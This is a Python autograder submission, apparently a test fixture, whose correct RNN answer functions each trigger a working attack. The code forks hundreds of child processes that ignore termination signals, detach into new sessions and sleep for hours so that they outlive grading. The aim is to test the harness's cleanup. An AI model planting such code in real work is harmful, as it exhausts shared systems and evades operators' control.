"""Attack: leave many processes behind.

Forks 200 children at import and 5 more in every call. Each child ignores SIGTERM and
SIGHUP (which survives exec), half of them start their own session, and each execs
`sleep 31337` with argv[0] set to the marker the test harness looks for. Every answer is
correct, so the submission may earn 12; what is tested is that no child outlives grading.
"""

import ctypes
import json
import os
import signal
import time

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        MARKER = json.load(_stream).get("marker", "AGMARK-fork_children")
except (OSError, ValueError):
    MARKER = "AGMARK-fork_children"


def spawn(count):
    started = 0
    for index in range(count):
        try:
            pid = os.fork()
        except OSError:  # a process limit: keep trying, the grader may free slots
            continue
        if pid == 0:
            try:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                if index % 2:
                    os.setsid()
                try:
                    ctypes.CDLL(None).prctl(15, ctypes.c_char_p(MARKER.encode()[:15]), 0, 0, 0)
                except (OSError, AttributeError):
                    pass
                for sleeper in ("/bin/sleep", "/usr/bin/sleep"):
                    try:
                        os.execv(sleeper, [MARKER, "31337"])
                    except OSError:
                        pass
                time.sleep(31337)
            finally:
                os._exit(0)
        started += 1
    return started


STARTED = spawn(200)
print(f"fork_children: started {STARTED} of 200 children at import")


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    spawn(5)
    return {"W_ss": (s_dim, s_dim), "W_sx": (s_dim, x_dim), "W_o": (p_dim, s_dim)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    spawn(5)
    return W_sx.T @ (W_o.T @ dloss_dz2)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    spawn(5)
    return {"W_ssx": (s_dim, s_dim + x_dim), "W_ox": (p_dim, s_dim + x_dim)}


def rnn_b_f2(z):
    spawn(5)
    exps = np.exp(z - np.max(z, axis=0, keepdims=True))
    return exps / np.sum(exps, axis=0, keepdims=True)


def rnn_b_next_input(p_t):
    spawn(5)
    return p_t


def rnn_b_dloss_dx_depends_on():
    spawn(5)
    return {"W_ox": True, "all_W_ox": True, "W_ssx": True, "all_W_ssx": False}
